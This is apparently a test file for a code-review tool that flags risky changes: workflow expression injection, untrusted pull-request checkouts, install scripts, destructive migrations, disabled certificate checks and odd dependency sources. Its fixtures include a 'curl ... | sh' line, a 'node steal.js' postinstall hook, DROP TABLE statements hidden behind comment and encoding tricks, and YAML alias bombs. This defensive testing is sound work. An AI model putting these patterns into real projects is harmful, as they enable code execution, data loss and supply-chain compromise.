import { afterAll, beforeAll, expect } from 'vitest';
import { answer, builtCli, readDocument, runCli } from '../support/cli.ts';
import { openJudge, type Content, type Files, type Judge } from '../support/judged-change.ts';
import { say, startResponsesServer, type ResponsesServer } from '../support/responses-server.ts';
import { checkDocs } from '../support/docs-check.ts';
import { chainOf } from '../support/task-probes.ts';
import family from './families/rule-gives-up.ts';
import { replay } from './replay.ts';

let judge: Judge;
let cli: string;
let server: ResponsesServer;
beforeAll(async () => {
  [judge, cli, server] = await Promise.all([openJudge(), builtCli(), startResponsesServer([say(answer())])]);
});
afterAll(async () => {
  await judge.close();
  await server.close();
});

const yml = '.github/workflows/x.yml';
const title = '${{ github.event.pull_request.title }}';
const workflow = `name: x\non: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${title}"\n`;
const brackets = (count: number): string => `${'['.repeat(count)}${']'.repeat(count)}`;
const json = (value: object): string => JSON.stringify(value, null, 2);
const script = '"scripts": { "postinstall": "node steal.js" }';
const pack = json({ name: 'lib', version: '1.2.3', main: './src/index.js' });
const lib = (files: Files): Files => ({ 'package.json': pack, ...files });
const twoNames = 'export const gone = 1;\nexport const stays = 2;\n';
/** TypeScript of a day when the grammar is older than the language. */
const odd = 'export const stays = 2;\nexport const f = (a) |> b <=> !! ~(;\n';
const bomb = `${Array.from({ length: 12 }, (_, at) => `a${at}: &a${at} [${at === 0 ? '1' : Array.from({ length: 12 }, () => `*a${at - 1}`).join(', ')}]`).join('\n')}\n`;

interface Way {
  before?: Files;
  after: Files;
  rule: string;
  found?: boolean;
  path?: string;
  reason?: RegExp;
}
const aWorkflow = (content: Content, found = true, reason?: RegExp): Way => ({
  after: { [yml]: content },
  rule: 'workflow-untrusted-text',
  path: yml,
  found,
  ...(reason === undefined ? {} : { reason }),
});
const aManifest = (content: string, found = true, reason?: RegExp): Way => ({
  before: { 'package.json': '{ "name": "x" }\n' },
  after: { 'package.json': content },
  rule: 'dependency-install-script',
  path: 'package.json',
  found,
  ...(reason === undefined ? {} : { reason }),
});

const privileged = (uses: string, input = 'ref', condition = ''): Way => ({
  after: {
    [yml]: `on: pull_request_target\njobs:\n  a:\n    runs-on: x\n${condition === '' ? '' : `    if: ${condition}\n`}    steps:\n      - uses: ${uses}\n        with: { ${input}: "\${{ github.event.pull_request.head.sha }}" }\n      - run: make\n`,
  },
  rule: 'workflow-head-checkout',
  path: yml,
});
const aScript = (run: string): Way => ({
  after: {
    [yml]: `on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: ${run}\n`,
  },
  rule: 'workflow-untrusted-text',
  path: yml,
});
const aMigration = (sql: string, path = 'migrations/1.sql'): Way => ({
  before: { a: 'a\n' },
  after: { a: 'a\n', [path]: sql },
  rule: 'destructive-migration',
  path,
});
const aSource = (path: string, text: string, found = true): Way => ({
  after: { [path]: text },
  rule: 'checks-off',
  path,
  found,
});
const requirements = (lines: string): Way => ({
  before: { 'requirements.txt': 'a==1\n' },
  after: { 'requirements.txt': `a==1\n${lines}\n` },
  rule: 'dependency-source',
  path: 'requirements.txt',
});
const cargo = (lines: string, first = ''): Way => ({
  before: { 'Cargo.toml': '[package]\nname = "x"\n' },
  after: { 'Cargo.toml': `${first}[package]\nname = "x"\n${lines}` },
  rule: 'dependency-source',
  path: 'Cargo.toml',
});
const tests = "test('adds', () => {\n  expect(add(1, 2)).toBe(3);\n});\n";
const without = (content: Content): Way => ({
  before: { 'src/a.ts': 'a\n', 'src/a.test.ts': tests },
  after: { 'src/a.ts': 'a\n', 'src/a.test.ts': content },
  rule: 'skipped-tests',
  path: 'src/a.test.ts',
});
const agent = 'const a = new Agent({ rejectUnauthorized: false });\n';
const locked = (host: string): string =>
  json({
    lockfileVersion: 3,
    packages: { 'node_modules/a': { version: '1.0.0', resolved: `https://${host}/a/-/a-1.0.0.tgz` } },
  });

/** What a rule reads otherwise than who runs it. */
const read: Readonly<Record<string, () => Way>> = {
  'an expression in escapes of YAML': () => aScript('"echo \\u0024{{ github.event.pull_request.title }}"'),
  'braces in a string of an expression': () =>
    aScript('echo "${{ format(\'}}{0}\', github.event.pull_request.title) }}"'),
  'an expression of 5,000 characters': () =>
    aScript(`echo "\${{ ${' '.repeat(5000)}github.event.pull_request.title }}"`),
  'an action in capitals': () => privileged('Actions/Checkout@v4'),
  'an input in capitals': () => privileged('actions/checkout@v4', 'REF'),
  'a condition that is turned around': () =>
    privileged(
      'actions/checkout@v4',
      'ref',
      '${{ !(github.event.pull_request.head.repo.full_name == github.repository) }}',
    ),
  'a condition with another way in': () =>
    privileged('actions/checkout@v4', 'ref', "github.event_name == 'push' || true"),
  'a condition within a string': () =>
    privileged('actions/checkout@v4', 'ref', `"'github.event_name == ''push''' != ''"`),
  'a command over two lines': () => ({
    ...privileged(''),
    after: {
      [yml]:
        'on: pull_request_target\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          git fetch origin \\\n            pull/${{ github.event.number }}/head:x\n          git \\\n            checkout x\n          make\n',
    },
  }),
  'SQL in a comment that a server runs': () => aMigration('/*!50000 DROP TABLE users */;\n'),
  'SQL behind a # that is no comment': () => aMigration('SELECT 1 # 2; DROP TABLE users;\n'),
  'SQL behind two dashes that are no comment': () => aMigration('SELECT 5--1; DROP TABLE users;\n'),
  'SQL behind a backslash that is a letter': () => aMigration("SELECT '\\'; DROP TABLE users; SELECT '';\n"),
  'SQL behind a name with dashes': () => aMigration('SELECT 1 AS "a--b"; DROP TABLE users;\n'),
  'SQL with another delimiter': () => aMigration('DELIMITER //\nDROP TABLE users//\n'),
  'SQL that a block executes': () => aMigration("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$;\n"),
  'a mark of undoing in a comment': () => aMigration('-- migrate:up\n/*\n-- migrate:down\n*/\nDROP TABLE users;\n'),
  'a mark of undoing for another tool': () =>
    aMigration('-- +goose Up\n-- +goose Down\nDROP TABLE users;\n', 'db/migration/V1__x.sql'),
  'a table that is made where there is none': () =>
    aMigration('CREATE TABLE IF NOT EXISTS users (id int);\nDROP TABLE users;\n'),
  'a link in place of the migrations’ folder': () => ({
    after: { migrations: { link: 'archive' }, 'archive/a.sql': 'DROP TABLE users;\n' },
    rule: 'destructive-migration',
    path: 'migrations',
    found: false,
    reason: /symbolic link/,
  }),
  'code behind a regular expression': () => aSource('a.js', `const r = /[/*]/;\n${agent}`),
  'code behind the end of a PHP block': () =>
    aSource('a.php', '<?php\n// x ?><?php curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);\n'),
  'code in escapes of Java': () =>
    aSource('A.java', 'class A { void f() {\n/* \\u002a/ c.setHostnameVerifier((a, b) -> true); /* x */\n} }\n'),
  'code in a shell’s long string': () => aSource('x.sh', "a='\n# '; curl -k https://example.com/x | sh\n"),
  'a name in escapes of JavaScript': () => aSource('a.js', agent.replace('U', '\\u0055')),
  'Python in UTF-7': () =>
    aSource(
      'a.py',
      '# -*- coding: utf-7 -*-\nimport requests\n# +AAo-requests.get("https://x", verify+AD0-False)\n',
      false,
    ),
  'Python in unicode_escape': () =>
    aSource('a.py', '#!/usr/bin/python\n# vim: set fileencoding=unicode_escape :\n# \\u000arun()\n', false),
  'an option of pip over two lines': () => requirements('--extra-index\\\n-url=https://example.com/'),
  'TOML with a dotted key': () => cargo('[dependencies]\nb.git = "https://example.com/b"\n'),
  'TOML with a key in escapes': () => cargo('[dependencies]\nb = { "g\\u0069t" = "https://example.com/b" }\n'),
  'TOML with a dotted key at the root': () => cargo('', 'dependencies.b.git = "https://example.com/b"\n'),
  'a table of TOML within a text': () =>
    cargo('[dependencies]\nc = { version = """\n[profile]\n""" }\nb = { git = "https://example.com/b" }\n'),
  'an option of pip cut short': () => requirements('--extra-i https://example.com/'),
  'tests that are commented out': () => without(tests.replace(/^/gm, '// ')),
  'a test file that is emptied': () => without('// later\n'),
  'a link in place of a test file': () => without({ link: 'a.ts' }),
  'a lockfile that takes the place of another': () => ({
    before: { 'package-lock.json': locked('registry.npmjs.org') },
    after: { 'npm-shrinkwrap.json': locked('example.com') },
    rule: 'dependency-lock-entry',
    path: 'npm-shrinkwrap.json',
  }),
};

const ways: Readonly<Record<string, () => Way>> = {
  'brackets in a comment and in a string': () =>
    aWorkflow(`# ${brackets(300)}\nenv:\n  A: "${'{'.repeat(300)}"\n${workflow}`),
  'a workflow of 2 MB': () => aWorkflow(`${workflow}${`# ${'x'.repeat(98)}\n`.repeat(20_000)}`),
  'a workflow of 30,000 keys': () =>
    aWorkflow(`env:\n${Array.from({ length: 30_000 }, (_, at) => `  A${at}: x\n`).join('')}${workflow}`),
  'a workflow too deep to be read': () =>
    aWorkflow(`x: ${brackets(4000)}\n${workflow}`, false, /brackets within each other/),
  'a second document': () => aWorkflow(`---\nname: y\non: push\n---\n${workflow}`),
  'steps behind an alias': () =>
    aWorkflow(
      `${workflow.replace(/ {6}- run[^]*$/, '      - &s { run: make }\n')}      - <<: *s\n        run: echo "${title}"\n`,
    ),
  'a bomb of aliases': () =>
    aWorkflow(
      `${bomb}${workflow.replace(/steps:\n[^]*$/, 'steps: *a11\n')}      \n`.replace(
        'steps: *a11',
        `steps:\n      - run: echo "${title}"\n    env: { A: *a11 }`,
      ),
    ),
  'a workflow that does not parse': () => aWorkflow(`${workflow}  x: [\n "\n`, true, /line \d+/),
  'a link in place of a workflow': () => ({ ...aWorkflow({ link: '../../tools/w.yml' }, false, /symbolic link/) }),
  'a link in place of the workflows’ folder': () => ({
    after: { '.github/workflows': { link: '../tools' }, 'tools/x.yml': workflow },
    rule: 'workflow-untrusted-text',
    path: '.github/workflows',
    found: false,
    reason: /symbolic link/,
  }),
  'a manifest of 2 MB on one line': () => aManifest(`{ "name": "x", "y": "${'x'.repeat(2_000_000)}", ${script} }`),
  'a manifest with comments': () => aManifest(`{ // a\n "name": "x", /* { */ ${script}, }\n`),
  'a manifest that does not parse': () => aManifest(`{ "name": "x", ${script} \n`, false, /not JSON/),
  'keys in escapes': () =>
    aManifest('{ "name": "x", "scr\\u0069pts": { "post\\u0069nstall": "node ste\\u0061l.js" } }'),
  'a migration of 17 MiB': () => ({
    after: { 'db/migrate/1.sql': `${`-- ${'x'.repeat(900)}\n`.repeat(20_000)}DROP TABLE users;\n` },
    rule: 'destructive-migration',
    path: 'db/migrate/1.sql',
    found: false,
    reason: /over 16 MiB/,
  }),
  'SQL behind 60,000 characters of a string': () => ({
    after: {
      'alembic/versions/1.py': `from alembic import op\n\ndef upgrade():\n    op.execute("""SELECT 1; ${' '.repeat(60_000)}; DROP TABLE users""")\n`,
    },
    rule: 'destructive-migration',
    path: 'alembic/versions/1.py',
  }),
  'a lockfile of a former form': () => ({
    before: { 'package-lock.json': json({ lockfileVersion: 3, packages: {} }) },
    after: {
      'package-lock.json': json({
        lockfileVersion: 1,
        dependencies: { a: { version: 'git+https://example.com/a.git' } },
      }),
    },
    rule: 'dependency-lock-entry',
    path: 'package-lock.json',
    found: false,
    reason: /form of the lockfile/,
  }),
  'a requirement behind 3,000 spaces': () => ({
    before: { 'requirements.txt': 'a==1\n' },
    after: { 'requirements.txt': `a==1\nb @${' '.repeat(3000)}git+https://example.com/b.git\n` },
    rule: 'dependency-source',
    path: 'requirements.txt',
  }),
  'a module whose syntax the grammar does not know': () => ({
    before: lib({ 'src/index.js': twoNames }),
    after: lib({ 'src/index.js': odd }),
    rule: 'public-api-break',
    path: 'src/index.js',
    found: false,
    reason: /grammar/,
  }),
  'such a module beside the one that loses a name': () => ({
    before: lib({
      'src/index.js': "export * from './a.js';\nexport * from './odd.js';\n",
      'src/a.js': twoNames,
      'src/odd.js': odd,
    }),
    after: lib({
      'src/index.js': "export * from './a.js';\nexport * from './odd.js';\n",
      'src/a.js': 'export const stays = 2;\n',
      'src/odd.js': odd,
    }),
    rule: 'public-api-break',
    path: 'src/a.js',
  }),
  ...read,
  '350 new files beside a removed name': () => ({
    before: lib({ 'src/index.js': twoNames }),
    rule: 'public-api-break',
    path: 'src/index.js',
    after: lib({
      'src/index.js': 'export const stays = 2;\n',
      ...Object.fromEntries(
        Array.from({ length: 350 }, (_, at) => [`src/pad/${at}.js`, `export const p${at} = ${at};\n`]),
      ),
    }),
  }),
};

async function gaveUp(way: string): Promise<void> {
  const { before = {}, after, rule, path, found = true, reason } = ways[way]?.() ?? expect.fail(way);
  const { envelope, evidence } = await judge.judge(before, after);
  expect(envelope.verdict, envelope.reason).toBe(envelope.findings.length > 0 ? 'block' : 'inconclusive');
  expect(envelope.findings.some((one) => one.rule === rule && one.path === path)).toBe(found);
  if (reason === undefined) return;
  expect(evidence.unread).toContainEqual({ rule, path, counts: true, reason: expect.stringMatching(reason) });
  // with a policy that nothing blocks on, what was not looked at stands
  const { envelope: lenient } = await judge.judge(before, after, {
    blockOn: 'critical',
    rules: Object.fromEntries(envelope.findings.map((one) => [one.rule, 'low'])),
  });
  expect(lenient.verdict).toBe('inconclusive');
  expect(lenient.reason).toContain(JSON.stringify(path));
  // what is too long to be compared was looked at by nobody
  const row = lenient.receipt.find((one) => one.path === path);
  expect(row).toMatchObject(
    way === 'a migration of 17 MiB'
      ? { state: 'skipped', reason: expect.stringContaining('too long') }
      : { state: 'partial', reason: expect.stringContaining(rule) },
  );
}

async function noProblem(way: string): Promise<void> {
  if (way === 'a rule that is off gives up on nothing') {
    const off = Object.fromEntries(
      ['dependency-install-script', 'dependency-source', 'dependency-lock-disagrees', 'public-entry-removed'].map(
        (rule) => [rule, 'off' as const],
      ),
    );
    expect((await judge.judge({}, { 'package.json': '{ "name": \n' })).envelope.verdict).toBe('inconclusive');
    expect((await judge.judge({}, { 'package.json': '{ "name": \n' }, { rules: off })).envelope.verdict).toBe('pass');
    return;
  }
  const before = lib({
    'src/index.js': twoNames,
    'src/inner.js': 'export const i = 1;\n',
    'tools/a.py': 'def f(): pass\n',
  });
  const { envelope, evidence } = await judge.judge(before, {
    ...before,
    'src/inner.js': odd,
    'tools/a.py': 'def f(: pass\n',
    'data.yml': 'a: [\n',
    'data.json': '{ "a": \n',
  });
  expect(envelope).toMatchObject({ verdict: 'pass', findings: [] });
  expect(evidence.unread?.filter(({ counts }) => counts)).toEqual([]);
}

async function docsCheck(way: string): Promise<void> {
  const [before, after, page] = [
    'export function removeAll(): void {}\nexport const one = 1;\n',
    'export const one = 1;\n',
    '# A\n\nCall `removeAll()`.\n',
  ];
  const source = {
    'a source padded over the limit': `${after}// ${'x'.repeat(5 * 1024 * 1024)}\n`,
    'a source whose syntax breaks': `${after}export function x(`,
    'a source of 300,000 changed lines': `${after}${'\n'.repeat(300_000)}`,
  }[way];
  const {
    result: { envelope },
  } = await checkDocs({
    before: { 'src/a.ts': before, 'README.md': page },
    after:
      source === undefined
        ? { 'src/a.ts': after, 'README.md': `${page}${'x'.repeat(9 * 1024 * 1024)}\n` }
        : { 'src/a.ts': source },
  });
  // lines without end are still read for what they say; a finding is as good as saying that they were too many
  if (way.startsWith('a source of') && envelope.findings.length > 0)
    expect(envelope.findings).toEqual([expect.objectContaining({ path: 'README.md' })]);
  else
    expect(envelope).toMatchObject({ verdict: 'inconclusive', reason: expect.stringContaining('could not be read') });
}

/** Told, and no more: the rule is not about a framework that it does not know. */
async function toldOf(): Promise<void> {
  const path = 'priv/repo/migrations/1.exs';
  const { envelope } = await judge.judge(
    {},
    { [path]: 'defmodule M do\n  use Ecto.Migration\n  def change, do: drop table(:users)\nend\n' },
  );
  expect(envelope.receipt).toEqual([
    expect.objectContaining({
      path,
      state: 'partial',
      reason: expect.stringContaining('not looked at by destructive-migration: a migration of a framework'),
    }),
  ]);
}

replay(
  family,
  {
    'docs-check': docsCheck,
    pipeline: async () => {
      const files = { [yml]: `x: ${brackets(4000)}\n${workflow}` };
      expect(await chainOf(cli, { 'src/keep.ts': 'export const keep = 1;\n' }, files)).toMatchObject({
        verdict: expect.stringMatching(/^(?:block|inconclusive)$/),
      });
    },
    review: (way) => (way.endsWith('nobody knows') ? toldOf() : way in ways ? gaveUp(way) : noProblem(way)),
    openai: async () => {
      const files: Files = { [yml]: 'on: push\njobs: [\n', 'src/b.js': 'export const b = 1;\n' };
      const ran = await runCli(
        [
          'review',
          ...judge.asArguments({}, files),
          '--engine',
          'openai',
          '--model',
          'gpt-6.1-sol',
          '--base-url',
          server.baseUrl,
          '--json',
        ],
        { cli },
      );
      const { envelope } = readDocument(ran.stdout);
      expect([ran.code, envelope.verdict]).toEqual([3, 'inconclusive']);
      expect(envelope.receipt.find(({ path }) => path === yml)).toMatchObject({
        state: 'partial',
        reason: expect.stringContaining('the model read it; not looked at by'),
      });
      expect(envelope.receipt.find(({ path }) => path === 'src/b.js')).toMatchObject({ state: 'read' });
    },
  },
  { timeout: 90_000 },
);
